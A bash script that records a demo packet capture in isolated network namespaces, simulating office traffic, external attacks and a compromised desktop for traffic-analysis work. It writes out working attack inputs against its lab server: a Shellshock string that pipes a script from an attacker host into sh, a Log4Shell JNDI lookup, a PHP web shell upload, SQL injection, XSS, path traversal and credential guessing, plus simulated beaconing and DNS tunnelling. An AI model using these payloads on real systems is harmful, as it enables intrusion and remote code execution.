#!/usr/bin/env bash
# Records demo/demo.pcap: real programs talk to each other inside network namespaces of their own, and
# tcpdump captures on the bridge between them. Nothing leaves the machine and nothing outside the
# namespaces is touched; at the end every process is stopped and every namespace removed.
#
#   lab/record/record.sh [OUTPUT]        as root; default output: demo/demo.pcap of the repository
#
# The machines (one namespace each, addresses only valid inside):
#   server   10.20.0.10, fd00:20::10   web, TLS, HTTP/2, DNS, TFTP, DHCP, SSH, mail, FTP, MQTT, SNMP
#   desk     10.20.0.50, fd00:20::50   a user's machine
#   outside  198.51.100.23 an attacker, 203.0.113.80 a web server of the attacker
#   wire     the bridge and tcpdump
#
# Debian packages: iproute2 ethtool tcpdump nginx-light curl dnsmasq-base bind9-dnsutils openssl
# openssh-server openssh-client python3-aiosmtpd swaks vsftpd nmap mosquitto mosquitto-clients snmpd
# snmp busybox
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
output=$(realpath -m "${1:-$here/../../demo/demo.pcap}")
tag=gabion$$
spaces=(wire server desk outside)
PATH=/usr/sbin:/usr/bin:/sbin:/bin
export PATH LC_ALL=C

[ "$(id -u)" = 0 ] || { echo "record: needs root for network namespaces: run it as root" >&2; exit 4; }
for tool in ip ethtool tcpdump nginx curl dnsmasq dig openssl sshd ssh ssh-keygen swaks vsftpd nmap \
            mosquitto mosquitto_pub mosquitto_sub snmpd snmpget snmpwalk busybox; do
  command -v "$tool" >/dev/null || { echo "record: $tool: not found: install the packages named in $0" >&2; exit 4; }
done

work=$(mktemp -d -t gabion-record.XXXXXX)
chmod 755 "$work"

# Ends the processes in our namespaces, by process id, and removes the namespaces.
clean_up() {
  local space pid
  for space in "${spaces[@]}"; do
    for pid in $(ip netns pids "$tag-$space" 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
  done
  sleep 0.5
  for space in "${spaces[@]}"; do
    for pid in $(ip netns pids "$tag-$space" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
    ip netns del "$tag-$space" 2>/dev/null || true
    rm -rf "/etc/netns/$tag-$space"
  done
  rmdir /etc/netns 2>/dev/null || true
  rm -rf "$work"
}
trap clean_up EXIT INT TERM

# Runs a command in a namespace, under a host name of its own.
in_space() {
  local space=$1; shift
  ip netns exec "$tag-$space" unshare --uts sh -c 'hostname "$0.example"; exec "$@"' "$space" "$@"
}
server() { in_space server "$@"; }
desk() { in_space desk "$@"; }
outside() { in_space outside "$@"; }

# Announces a step. Clients may fail (that is part of some steps); the recording continues.
step() { echo "  $*" >&2; }
quietly() { "$@" >>"$work/clients.log" 2>&1 || true; }

### The network #######################################################################################

lay_wire() {
  local space mac=1
  for space in "${spaces[@]}"; do
    ip netns add "$tag-$space"
    in_space "$space" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.default.router_solicitations=0
    in_space "$space" ip link set lo up
  done
  in_space wire ip link add br0 type bridge mcast_snooping 0
  in_space wire ip link set br0 up
  for space in server desk outside; do
    ip -n "$tag-wire" link add "$space" type veth peer name eth0 netns "$tag-$space"
    ip -n "$tag-$space" link set eth0 address "02:00:00:00:20:0$mac"
    # Frames must be as on a real link: right checksums, nothing longer than the MTU.
    in_space "$space" ethtool -K eth0 tx off rx off tso off gso off gro off >/dev/null 2>&1
    in_space wire ethtool -K "$space" tx off rx off tso off gso off gro off >/dev/null 2>&1
    ip -n "$tag-wire" link set "$space" master br0 up
    ip -n "$tag-$space" link set eth0 up
    mac=$((mac + 1))
  done
  ip -n "$tag-server" addr add 10.20.0.10/24 dev eth0
  ip -n "$tag-server" addr add fd00:20::10/64 dev eth0 nodad
  ip -n "$tag-desk" addr add 10.20.0.50/24 dev eth0
  ip -n "$tag-desk" addr add fd00:20::50/64 dev eth0 nodad
  ip -n "$tag-outside" addr add 198.51.100.23/24 dev eth0
  ip -n "$tag-outside" addr add 203.0.113.80/24 dev eth0
  for space in server desk; do
    ip -n "$tag-$space" route add 198.51.100.0/24 dev eth0
    ip -n "$tag-$space" route add 203.0.113.0/24 dev eth0
    mkdir -p "/etc/netns/$tag-$space"
    echo "nameserver 10.20.0.10" >"/etc/netns/$tag-$space/resolv.conf"
  done
  ip -n "$tag-outside" route add 10.20.0.0/24 dev eth0 src 198.51.100.23
}

### Servers ###########################################################################################

make_content() {
  local site=$work/site line
  mkdir -p "$site/docs" "$work/evil" "$work/tftp" "$work/ftp/pub" "$work/nginx"
  for line in $(seq 1 120); do
    echo "<p>Line $line of the handbook: backups run at night, the printer is on the second floor.</p>"
  done >"$site/docs/handbook.html"
  echo "<html><title>Intranet</title><h1>Intranet</h1></html>" >"$site/index.html"
  head -c 3000 /dev/zero | tr '\0' 'x' >"$site/plain.txt"
  mkdir "$site/private" && echo "payroll" >"$site/private/index.html"
  printf 'admin:%s\n' "$(openssl passwd -apr1 correct-horse)" >"$work/htpasswd"
  # The test file of the antivirus industry, harmless by definition; it is assembled here so that scanners
  # do not detect this script.
  printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' >"$work/evil/eicar.com"
  { printf 'MZ\220\0\003\0\0\0\004\0\0\0\377\377\0\0'; printf '\270\0\0\0\0\0\0\0@\0\0\0'
    printf '\0%.0s' $(seq 1 32); printf '\200\0\0\0'
    printf 'This program cannot be run in DOS mode.'; printf '\0%.0s' $(seq 1 25)
    printf 'PE\0\0d\206\002\0'; head -c 900 /dev/zero; } >"$work/evil/update.bin"
  printf '#!/bin/sh\necho dropped\n' >"$work/evil/stage2.sh"
  echo "boot configuration" >"$work/tftp/router-confg"
  echo "quarterly figures" >"$work/ftp/pub/figures.csv"
  chown -R ftp "$work/ftp/pub" && chmod 755 "$work/ftp" "$work/ftp/pub"
  openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj "/O=Example Works/CN=intranet.example" \
    -addext "subjectAltName=DNS:intranet.example" -keyout "$work/site.key" -out "$work/site.crt" 2>/dev/null
  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/C=XX/O=Internet Widgits Pty Ltd/CN=localhost" \
    -keyout "$work/evil.key" -out "$work/evil.crt" 2>/dev/null
  chmod -R a+rX "$work"
}

start_web() {
  cat >"$work/nginx/server.conf" <<CONF
daemon off; pid $work/nginx/server.pid; error_log $work/nginx/server.log; user root; worker_processes 1;
events { worker_connections 64; }
http {
  access_log off; server_tokens on; default_type text/plain;
  client_body_temp_path $work/nginx/s1; proxy_temp_path $work/nginx/s2; fastcgi_temp_path $work/nginx/s3;
  uwsgi_temp_path $work/nginx/s4; scgi_temp_path $work/nginx/s5;
  types { text/html html; text/plain txt; }
  gzip on; gzip_min_length 1000; gzip_types text/html;
  server {
    listen 10.20.0.10:80; listen [fd00:20::10]:80; listen 10.20.0.10:443 ssl; server_name intranet.example;
    ssl_certificate $work/site.crt; ssl_certificate_key $work/site.key; ssl_protocols TLSv1.2 TLSv1.3;
    root $work/site;
    location /private/ { auth_basic "private"; auth_basic_user_file $work/htpasswd; }
    location /upload { proxy_pass http://10.20.0.10/; }
    location /chunked { chunked_transfer_encoding on; gzip off; sub_filter_types text/html; sub_filter 'night' 'noon'; alias $work/site/docs/; }
  }
  server { listen 10.20.0.10:8080 http2; root $work/site; }
}
CONF
  cat >"$work/nginx/evil.conf" <<CONF
daemon off; pid $work/nginx/evil.pid; error_log $work/nginx/evil.log; user root; worker_processes 1;
events { worker_connections 64; }
http {
  access_log off; default_type application/octet-stream;
  client_body_temp_path $work/nginx/e1; proxy_temp_path $work/nginx/e2; fastcgi_temp_path $work/nginx/e3;
  uwsgi_temp_path $work/nginx/e4; scgi_temp_path $work/nginx/e5;
  server {
    listen 203.0.113.80:80; listen 203.0.113.80:4444; listen 203.0.113.80:443 ssl;
    ssl_certificate $work/evil.crt; ssl_certificate_key $work/evil.key;
    root $work/evil;
    location /gate.php { return 200 "ok sleep=60"; }
  }
}
CONF
  server nginx -e "$work/nginx/server.log" -c "$work/nginx/server.conf" >>"$work/servers.log" 2>&1 &
  outside nginx -e "$work/nginx/evil.log" -c "$work/nginx/evil.conf" >>"$work/servers.log" 2>&1 &
}

start_names() {
  server dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file \
    --listen-address=10.20.0.10 --bind-interfaces --log-facility=- --dhcp-leasefile="$work/leases" \
    --dhcp-range=10.20.0.100,10.20.0.120,1h --enable-tftp --tftp-root="$work/tftp" --tftp-no-fail \
    --host-record=intranet.example,10.20.0.10,fd00:20::10 --host-record=mail.example,10.20.0.10 \
    --mx-host=example,mail.example,10 --txt-record=example,"v=spf1 mx -all" \
    --host-record=cdn-update.top,203.0.113.80 --host-record=pool.minexmr.example,203.0.113.80 \
    --txt-record=long.example,"$(printf 'a%.0s' $(seq 1 200))","$(printf 'b%.0s' $(seq 1 200))","$(printf 'c%.0s' $(seq 1 200))" \
    --address=/tunnel.example/203.0.113.80 --local=/#/ >>"$work/servers.log" 2>&1 &
}

start_ssh() {
  mkdir -p /run/sshd
  ssh-keygen -q -t ed25519 -N '' -C '' -f "$work/hostkey"
  ssh-keygen -q -t ed25519 -N '' -C '' -f "$work/userkey"
  cp "$work/userkey.pub" "$work/authorized"
  cat >"$work/sshd_config" <<CONF
ListenAddress 10.20.0.10
HostKey $work/hostkey
AuthorizedKeysFile $work/authorized
PidFile none
StrictModes no
UsePAM no
PasswordAuthentication no
PermitRootLogin prohibit-password
MaxStartups 50
CONF
  server "$(command -v sshd)" -D -e -f "$work/sshd_config" >>"$work/servers.log" 2>&1 &
}

start_others() {
  (cd "$work" && server /usr/bin/python3 -m aiosmtpd -n -l 10.20.0.10:25 -c aiosmtpd.handlers.Sink) >>"$work/servers.log" 2>&1 &
  cat >"$work/vsftpd.conf" <<CONF
listen=YES
listen_address=10.20.0.10
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_umask=022
anon_root=$work/ftp
isolate=NO
isolate_network=NO
seccomp_sandbox=NO
CONF
  server vsftpd "$work/vsftpd.conf" >>"$work/servers.log" 2>&1 &
  printf 'listener 1883 10.20.0.10\nallow_anonymous true\nuser root\n' >"$work/mosquitto.conf"
  server mosquitto -c "$work/mosquitto.conf" >>"$work/servers.log" 2>&1 &
  printf 'rocommunity public\nsysDescr example switch\nsysLocation cellar\n' >"$work/snmpd.conf"
  server snmpd -f -Lo -C -c "$work/snmpd.conf" -p "$work/snmpd.pid" udp:10.20.0.10:161 >>"$work/servers.log" 2>&1 &
}

# Waits until a TCP port of the server's namespace listens.
await() {
  local space=$1 port=$2 tries
  for tries in $(seq 1 100); do
    in_space "$space" ss -Hltn "sport = :$port" | grep -q . && return 0
    sleep 0.1
  done
  echo "record: nothing listens on port $port of $space after $tries tries:" >&2
  tail -5 "$work/servers.log" >&2
  return 1
}

### The steps #########################################################################################

office_work() {
  step "a user's machine: address, names, web, files, mail"
  quietly desk busybox ping -c 2 10.20.0.10
  quietly desk busybox udhcpc -i eth0 -n -q -f -t 3 -s /bin/true
  quietly desk dig +tries=1 intranet.example A intranet.example AAAA example MX example TXT
  quietly desk dig +tries=1 +tcp mail.example A
  quietly desk dig +tries=1 +bufsize=512 long.example TXT
  quietly desk dig +tries=1 nowhere.example A
  quietly desk curl -s4 http://intranet.example/ http://intranet.example/plain.txt
  quietly desk curl -s4 --compressed http://intranet.example/docs/handbook.html
  quietly desk curl -s4 http://intranet.example/chunked/handbook.html
  quietly desk curl -s4 -r 100-199 http://intranet.example/plain.txt
  quietly desk curl -s6 http://intranet.example/
  quietly desk curl -s4 -I http://intranet.example/missing.html
  quietly desk curl -s4 -u admin:correct-horse http://intranet.example/private/
  quietly desk curl -s4 --http2-prior-knowledge http://intranet.example:8080/docs/handbook.html
  quietly desk curl -sk4 --tls-max 1.2 https://intranet.example/
  quietly desk curl -sk4 https://intranet.example/docs/handbook.html
  quietly desk ssh -i "$work/userkey" -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null root@10.20.0.10 'echo hello from $(hostname | wc -c)'
  quietly desk swaks --server 10.20.0.10 --from alice@example --to bob@example --header "Subject: Minutes" \
    --body "The minutes are attached." --attach-name minutes.txt --attach-type text/plain --attach "@$work/site/plain.txt"
  quietly desk curl -s ftp://10.20.0.10/pub/figures.csv
  quietly desk curl -s --disable-epsv ftp://10.20.0.10/pub/
  quietly desk curl -s -T "$work/site/index.html" ftp://10.20.0.10/pub/upload.html
  quietly desk curl -s tftp://10.20.0.10/router-confg
  desk timeout 5 mosquitto_sub -h 10.20.0.10 -t 'plant/+/temperature' -C 2 >>"$work/clients.log" 2>&1 &
  local reader=$!
  sleep 0.5
  quietly desk mosquitto_pub -h 10.20.0.10 -t plant/press/temperature -m 71.5
  quietly desk mosquitto_pub -h 10.20.0.10 -V 5 -t plant/oven/temperature -m 203.0 -q 1
  wait "$reader" || true
  quietly desk snmpget -v2c -c public -t 1 -r 0 10.20.0.10 1.3.6.1.2.1.1.1.0 1.3.6.1.2.1.1.6.0
}

attack_from_outside() {
  local url=http://10.20.0.10 n
  step "an attacker: scans, web attacks, guessing"
  quietly outside nmap -sS -Pn -n -p 1-100 --max-retries 0 -T4 10.20.0.10
  quietly outside nmap -sX -Pn -n -p 20-25 --max-retries 0 -T4 10.20.0.10
  quietly outside curl -s --path-as-is "$url/../../../../etc/passwd"
  quietly outside curl -s --path-as-is "$url/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh"
  quietly outside curl -s -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$url/item?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71%2C0x7a%29--%20-"
  quietly outside curl -s "$url/item?id=1%20AND%20SLEEP%285%29"
  quietly outside curl -s "$url/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"
  quietly outside curl -s -A '() { :;}; /bin/bash -c "id; curl 203.0.113.80/stage2.sh|sh"' "$url/cgi-bin/status"
  quietly outside curl -s -H 'X-Api-Version: ${jndi:ldap://203.0.113.80:1389/a}' "$url/"
  quietly outside curl -s -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' "$url/admin.php" "$url/.git/config" "$url/.env"
  quietly outside curl -s -X POST -F 'file=@-;filename=shell.php;type=image/png' "$url/upload" \
    <<<'<?php system($_GET["cmd"]); ?>'
  quietly outside curl -s -X TRACE "$url/"
  for n in 1 2 3 4 5 6; do quietly outside curl -s -u "admin:guess$n" "$url/private/"; done
  for n in 1 2 3 4 5 6; do
    quietly outside ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=none "admin$n@10.20.0.10" true
  done
  quietly outside curl -s -u root:toor ftp://10.20.0.10/
  quietly outside curl -s ftp://10.20.0.10/pub/../../etc/ -Q 'SITE CHMOD 777 pub'
  quietly outside snmpwalk -v2c -c public -t 1 -r 0 10.20.0.10 1.3.6.1.2.1.1.9.1.2
  quietly outside dig +tries=1 +tcp @10.20.0.10 example AXFR
  quietly outside dig +tries=1 @10.20.0.10 version.bind CH TXT
  quietly outside timeout 3 mosquitto_sub -h 10.20.0.10 -t '#' -W 1
  quietly outside busybox ping -c 1 -s 1400 10.20.0.10
}

infected_desk() {
  local n
  step "the user's machine turns bad: downloads, calls home, leaks"
  quietly desk curl -s http://203.0.113.80/eicar.com
  quietly desk curl -s -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' http://cdn-update.top/update.bin
  quietly desk curl -s http://cdn-update.top:4444/stage2.sh
  for n in 1 2 3; do
    quietly desk curl -s -A 'WinHTTP loader/1.0' -d "id=$(printf '%08x' 48879)&os=linux&seq=$n" http://cdn-update.top/gate.php
    sleep 1
  done
  quietly desk curl -sk --resolve update.invalid:443:203.0.113.80 https://update.invalid/gate.php
  quietly desk curl -sk https://203.0.113.80/stage2.sh
  for n in 1 2 3 4 5; do
    quietly desk dig +tries=1 "$(head -c 30 /dev/zero | tr '\0' "$n" | od -An -tx1 | tr -d ' \n').$n.tunnel.example" A
  done
  quietly desk dig +tries=1 pool.minexmr.example A
  quietly desk swaks --server 10.20.0.10 --from billing@bank.invalid --to bob@example --header "Subject: Overdue invoice" \
    --body "Open the invoice." --attach-name invoice.pdf.exe --attach-type application/octet-stream --attach "@$work/evil/update.bin"
}

### Record ############################################################################################

lay_wire
make_content
start_web; start_names; start_ssh; start_others
for port in 80 443 8080 53 22 25 21 1883; do await server "$port"; done
for port in 80 443 4444; do await outside "$port"; done

in_space wire tcpdump -q -i br0 -U -w "$work/raw.pcap" 2>>"$work/tcpdump.log" &
recorder=$!
sleep 1
office_work
attack_from_outside
infected_desk
sleep 2
recorded=$(ip netns pids "$tag-wire" | head -1)
kill -INT "${recorded:-$recorder}"; wait "$recorder" 2>/dev/null || true
grep -q '^0 packets dropped' "$work/tcpdump.log" || { echo "record: tcpdump lost packets:" >&2; cat "$work/tcpdump.log" >&2; exit 1; }
mkdir -p "$(dirname "$output")"
cp "$work/raw.pcap" "$output"
[ -z "${KEEP_LOGS:-}" ] || cp "$work"/*.log "$KEEP_LOGS"/
echo "recorded $(stat -c %s "$output") bytes: $output" >&2
